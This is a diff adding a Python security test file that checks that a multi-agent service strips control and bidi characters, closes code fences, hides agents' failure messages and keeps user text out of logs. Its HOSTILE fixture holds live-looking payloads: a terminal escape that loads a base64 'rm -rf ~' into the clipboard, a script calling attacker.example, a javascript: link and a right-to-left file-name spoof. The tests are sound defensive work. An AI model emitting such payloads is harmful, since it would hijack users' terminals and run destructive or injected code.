@@ -1,0 +1,78 @@
+"""Agents that are not what they should be: what they answer is data, wherever it goes."""
+
+import asyncio
+import re
+import unicodedata
+
+from local_cloud.running_cloud import until
+from security.attack import Attack, must
+from security.secured_stack import SecuredStack
+
+MARK = "kept as it is"
+
+# What takes over a terminal or turns a line's reading round, around text that stays.
+HOSTILE = (
+    f"# {MARK}\n\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x9b31m\x00\x08\r"
+    "<script>fetch('https://attacker.example')</script> [click](javascript:alert(1)) ![](https://attacker.example/p.png)\n"
+    "\u202egnp.exe\u202c \u2066x\u2069 \ufeff\n```\nan open fence"
+)
+# As in the contract: line breaks and tabs are text.
+HARMLESS_CONTROLS = "\n\t"
+
+
+def dangerous_characters(text: str) -> set[str]:
+    bidi = set(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
+    return {
+        character
+        for character in text
+        if character in bidi or (unicodedata.category(character) == "Cc" and character not in HARMLESS_CONTROLS)
+    }
+
+
+async def a_hostile_answer(stack: SecuredStack) -> str:
+    stack.hostile_answer(HOSTILE)
+    async with stack.signed_in() as client:
+        messages = await client.job("cost=hostile advisor=answer and where can I save?")
+    response = messages[-1]["result"]["response"]
+    must(MARK in response, f"The answer itself is gone: {response}")
+    for message in messages:
+        texts = [message.get("result", {}).get(field, "") for field in ("content", "response")]
+        must(not dangerous_characters("".join(texts)), f"{dangerous_characters(''.join(texts))} got through.")
+    must(re.search(r"^.*The advisor agent's answer\.", response, re.MULTILINE), "The other agent's part is gone.")
+    before_advisor = response.split("The advisor agent's answer.")[0]
+    must(before_advisor.count("```") % 2 == 0, "One agent's open fence swallows the other's part.")
+    return "control and bidi characters taken out, fence closed"
+
+
+async def an_agents_own_words_about_its_failure(stack: SecuredStack) -> str:
+    async with stack.signed_in() as client:
+        for script in ("crash", "refuse", "rubbish", "deep:200000"):
+            messages = await client.job(f"What did it cost? cost={script}")
+            must("own words" not in str(messages), f"A client reads them: {messages}")
+            must(messages[-1]["code"] == "AGENTS_FAILED", f"It ends as {messages[-1]}")
+    return "AGENTS_FAILED"
+
+
+async def text_in_the_logs(stack: SecuredStack) -> str:
+    """What the processor logs of a job whose question, answer and failure all have a mark."""
+    mark = "markinthelogs"
+    stack.hostile_answer(f"{mark} {HOSTILE}")
+    async with stack.signed_in() as client:
+        messages = await client.job(f"{mark} cost=hostile advisor=crash and where can I save?")
+    job_id = messages[-1]["jobId"]
+
+    def lines_of_the_job() -> list[str]:
+        lines = stack.log_lines("background-processor")
+        return [line for line in lines if job_id in line]
+
+    lines = await asyncio.to_thread(until, lines_of_the_job)
+    must(not any(mark in line for line in stack.log_lines("background-processor")), "A text is in the log.")
+    must(all(not dangerous_characters(line) for line in lines), "Control characters are in the log.")
+    return "ids and types only"
+
+
+ATTACKS = (
+    Attack("an answer full of control characters, scripts and open fences", "agents", a_hostile_answer),
+    Attack("an agent that puts its own words into its failure", "agents", an_agents_own_words_about_its_failure),
+    Attack("texts that end up in the logs", "agents", text_in_the_logs),
+)
